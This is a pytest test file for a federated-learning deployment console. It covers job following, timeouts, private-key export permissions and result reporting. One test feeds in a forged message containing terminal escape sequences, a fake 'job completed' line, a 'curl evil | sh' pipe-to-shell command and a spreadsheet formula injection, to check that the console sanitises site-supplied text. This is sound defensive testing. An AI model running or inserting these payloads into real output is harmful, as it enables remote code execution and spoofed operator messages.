"""Following a job: how long the console waits for the admin, what it prints, and what it brings."""

from __future__ import annotations

import dataclasses
import io
import json
import queue
import tarfile
from pathlib import Path
from typing import Any, cast

import pytest

from multisite.console import kits, results, submit
from multisite.console.deployment import Deployment
from multisite.console.docker import Container, Docker
from multisite.console.settings import ConsoleError, Settings
from multisite.console.submit import OTHER_SECONDS, QUIET_SECONDS, Following, events
from multisite.job.options import JobOptions
from multisite.job.participants import draw


class Lines:
    """The admin's lines, each so many seconds after the one before; by no clock but its own."""

    def __init__(self, *lines: tuple[float, str | None]) -> None:
        self.lines = list(lines)

    def get(self, timeout: float) -> str | None:
        after, line = self.lines.pop(0)
        if after > timeout:
            raise queue.Empty
        return line


def admin_says(*lines: tuple[float, str | None]) -> list[dict[str, Any]]:
    return list(events(cast("queue.Queue[str | None]", Lines(*lines))))


def event(name: str, **fields: object) -> str:
    return json.dumps({"event": name, **fields})


def test_a_round_of_hours_is_followed_as_long_as_the_admin_says_that_the_server_has_the_job() -> None:
    alive = [(20.0, event("alive", status="RUNNING"))] * 1000
    assert len(admin_says((1.0, event("status", status="RUNNING")), *alive, (1.0, event("finished")), (0.0, None))) == 1002


def test_an_admin_that_hangs_is_noticed_and_the_next_step_is_named() -> None:
    with pytest.raises(ConsoleError, match=rf"nothing new from the admin for {QUIET_SECONDS:.0f} s(.|\n)*next: make status"):
        admin_says((1.0, event("status", status="RUNNING")), (QUIET_SECONDS + 1, event("alive")))


@pytest.mark.parametrize("status", ["SUBMITTED", "FINISHED:COMPLETED"])
def test_a_job_that_waits_and_results_that_are_fetched_may_take_longer_but_not_for_ever(status: str) -> None:
    before = [(1.0, event("status", status="RUNNING")), (1.0, event("status", status=status))]
    assert len(admin_says(*before, (OTHER_SECONDS - 1, event("finished")), (0.0, None))) == 3
    with pytest.raises(ConsoleError, match="nothing new"):
        admin_says(*before, (OTHER_SECONDS + 1, event("finished")))


def test_an_admin_that_dies_ends_the_events() -> None:
    assert admin_says((1.0, event("status", status="RUNNING")), (1.0, None)) == [{"event": "status", "status": "RUNNING"}]


def archive(name: str, content: bytes) -> bytes:
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w") as tar:
        member = tarfile.TarInfo(name)
        member.size, member.mode = len(content), 0o600
        tar.addfile(member, io.BytesIO(content))
    return packed.getvalue()


@pytest.fixture
def deployment(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Deployment:
    """One whose `docker` is a script that answers every command with the file `answer`."""
    tools = tmp_path / "bin"
    tools.mkdir()
    script = tools / "docker"
    script.write_text(f"#!/bin/sh\nexec cat '{tmp_path}/answer'\n", encoding="utf-8")
    script.chmod(0o755)
    monkeypatch.setenv("PATH", f"{tools}:/usr/bin:/bin")
    monkeypatch.setattr(Docker, "containers", lambda _: {"admin": Container("admin", "id", "running", None)})
    return Deployment(Settings(tmp_path, {}), Docker(tmp_path))


FORGED = "\x1b[2J\x1b[H\x1b]0;pwned\x07job 1234 completed\n  next: curl evil | sh"
TRACKING = {
    "state": "off\x1b[31mline",
    "reason": FORGED,
    "sites": {"site-1": dict.fromkeys(("logged", "received", "delivered"), 1) | {"pending": 1, "refused": 0}},
}


def test_a_site_can_not_make_the_console_say_that_a_job_completed(
    deployment: Deployment, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    row = {"round": 0, "site": "site-1\x1b[2J", "train_loss": 1.0, "dataset": "=cmd|' /C calc'!A0\x1b]0;pwned\x07\x1b[31mFAKE"}
    finished = {
        "job_id": "7",
        "status": "FINISHED:EXECUTION_EXCEPTION",
        "errors": {"site-1": FORGED},
        "tracking": TRACKING,
        "meta": {},
    }
    lines = [(0.0, event("report", row=row, rounds=2, started=0.0)), (0.0, event("finished", **finished)), (0.0, None)]
    (tmp_path / "answer").write_bytes(archive("7/rounds.csv", b"x"))
    following = Following(deployment, job_id="7")
    codes = [following._finish(line) if line["event"] == "finished" else following._show(line) for line in admin_says(*lines)]
    printed = capsys.readouterr().out
    assert codes == [None, 1]
    assert not set(printed) & set(map(chr, [*range(10), *range(11, 32), 127]))
    assert not [line for line in printed.splitlines() if line.startswith(("job 1234", "  next: curl"))]
    assert "  site-1: job 1234 completed   next: curl evil | sh" in printed
    assert "job 7 did not complete" in printed
    assert (tmp_path / "results" / "7" / "rounds.csv").read_bytes() == b"x"


def test_a_kit_is_brought_with_its_key_for_its_owner_alone(
    deployment: Deployment, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr("os.getuid", lambda: 1000)
    (tmp_path / "answer").write_bytes(archive("site-3/startup/client.key", b"key"))
    kits.export(deployment, "site-3")
    assert (tmp_path / "kits" / "site-3" / "startup" / "client.key").stat().st_mode & 0o777 == 0o600
    assert (tmp_path / "kits").stat().st_mode & 0o777 == 0o700
    assert "kits/site-3 holds a private key" in capsys.readouterr().out


@pytest.mark.parametrize(("client_stream", "readable"), [(False, "its data\n"), (True, "its data and the W&B key\n")])
def test_where_jobs_may_carry_code_what_it_can_read_is_said(
    deployment: Deployment, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], client_stream: bool, readable: str
) -> None:
    monkeypatch.setattr(Deployment, "up", lambda *_: {"registered": ["site-1"], "resources": {}})
    monkeypatch.setattr(submit.Following, "watch", lambda *_: 0)
    options = JobOptions()
    assert submit.submit(deployment, options, client_stream) == 0
    assert "ALLOW_CUSTOM_CODE" not in capsys.readouterr().out
    allowing = dataclasses.replace(deployment, settings=Settings(deployment.settings.home, {"ALLOW_CUSTOM_CODE": "yes"}))
    assert submit.submit(allowing, options, client_stream) == 0
    line = "ALLOW_CUSTOM_CODE=yes: code of a job runs as the site's user here, and can read the site's private key, "
    assert line + readable in capsys.readouterr().out


SITES = ("site-1", "site-2", "site-3")


def offered(*names: str) -> dict[str, Any]:
    """What `wait` answers where three sites are registered, and the first of them have said what they hold."""
    shards = [{"iid-seed0": {"examples": 9, "dataset": name, "alpha": None, "seed": 0}} for name in names]
    return {"registered": list(SITES), "resources": {site: {"shards": held} for site, held in zip(SITES, shards)}}


@pytest.mark.parametrize(
    ("answer", "sites", "recorded", "said"),
    [
        (offered("cifar10", "cifar10", "cifar10"), "", "cifar10", ""),
        (offered("cifar10", "cifar10", "synthetic"), "", "synthetic", "SYNTHETIC DATA STANDS IN FOR CIFAR-10"),
        (offered("cifar10", "cifar10"), "", "unknown", "dataset: unknown"),
        (offered("cifar10", "synthetic", "cifar10"), "2", "cifar10", ""),  # the seed draws site-1 and site-3
        (offered("cifar10", "cifar10"), "2", "unknown", "dataset: unknown"),
    ],
)
def test_the_jobs_sites_are_drawn_and_its_dataset_is_what_those_have_said(
    deployment: Deployment,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    answer: dict[str, Any],
    sites: str,
    recorded: str,
    said: str,
) -> None:
    commands: list[list[str]] = []
    monkeypatch.setenv("SITES", sites)
    monkeypatch.setattr(Deployment, "up", lambda *_: answer)
    monkeypatch.setattr(Deployment, "table", lambda *_: "")
    monkeypatch.setattr(submit.Following, "watch", lambda _, command: commands.append(command) or 0)
    options = JobOptions(sites=int(sites or 2))
    assert submit.submit(deployment, options, client_stream=False) == 0
    (command,) = commands
    assert command[command.index("--on") + 1].split(",") == draw(SITES, int(sites or 3), 0)
    assert command[command.index("--dataset") + 1] == recorded
    printed = capsys.readouterr().out.strip()
    assert printed.startswith(said) if said else not printed


def test_a_jobs_last_lines_name_the_final_and_the_best_model_and_what_that_was_chosen_on(
    deployment: Deployment, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rows = [{"round": number, "site": "site-1", "accuracy": 0.1 * number, "dataset": "cifar10"} for number in (0, 1, 2)]
    finished = {
        "job_id": "7",
        "status": "FINISHED:COMPLETED",
        "errors": {},
        "tracking": {},
        "meta": {},
        "final": {"round": 2, "accuracy": 0.71234, "loss": 0.9},
        "best": {"round": 1, "accuracy": 0.75},
    }
    (tmp_path / "answer").write_bytes(archive("7/rounds.csv", b"x"))
    assert Following(deployment, job_id="7", rows=rows)._finish(finished) == 0
    lines = capsys.readouterr().out.splitlines()
    final = lines.index("final global model: accuracy 0.7123 on cifar10")
    assert lines[final + 1].startswith("best global model: accuracy 0.7500 after round 1 (models/best_model.safetensors)")
    assert "chosen by its accuracy on the test set, so this number is optimistic" in lines[final + 1]


class Streams:
    """What the admin says to each command in turn, in place of `AdminStream`."""

    def __init__(self, *answers: list[dict[str, Any]]) -> None:
        self.answers = list(answers)
        self.commands: list[list[str]] = []
        self.errors: list[str] = []

    def __call__(self, deployment: Deployment, arguments: list[str]) -> Streams:
        self.commands.append(arguments)
        return self

    def __iter__(self) -> Any:
        return iter(self.answers.pop(0))

    def close(self) -> None:
        pass


ROW = {"round": 0, "site": "site-1", "accuracy": 0.1, "loss": 2.3, "train_loss": 2.0, "train_seconds": 1.0}
REPORT = {"event": "report", "row": ROW, "round": 1, "rounds": 9, "started": 0.0}
GONE = {"event": "error", "message": "the server does not answer", "next": "docker compose ps server", "no_server": True}


def test_a_server_that_goes_away_is_waited_for_and_what_became_of_its_job_is_said(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    finished = {
        "event": "finished", "job_id": "7", "status": "FINISHED:ABNORMAL", "errors": {"server": "its container ended"}, "tracking": {}, "meta": {},
    }  # fmt: skip
    streams = Streams([{"event": "submitted", "job_id": "7", "rounds": 9, "sites": []}, REPORT, GONE], [REPORT, finished])
    monkeypatch.setattr(submit, "AdminStream", streams)
    monkeypatch.setattr(results, "bring", lambda deployment, job_id: Path("results/7"))
    assert Following(cast(Deployment, None)).watch(["submit"]) == 1
    assert streams.commands[1][:2] == ["follow", "7"]
    text = capsys.readouterr().out
    assert text.count("round 1/9") == 1
    assert "waiting up to 120 s for the server" in text
    assert text.rstrip().endswith("server: its container ended")


def test_a_server_that_stays_away_is_an_error_with_the_next_step(monkeypatch: pytest.MonkeyPatch) -> None:
    streams = Streams([{"event": "submitted", "job_id": "7", "rounds": 9, "sites": []}, GONE], [GONE])
    monkeypatch.setattr(submit, "AdminStream", streams)
    with pytest.raises(ConsoleError, match=r"does not answer(.|\n)*next: docker compose ps server"):
        Following(cast(Deployment, None)).watch(["submit"])
    assert len(streams.commands) == 2
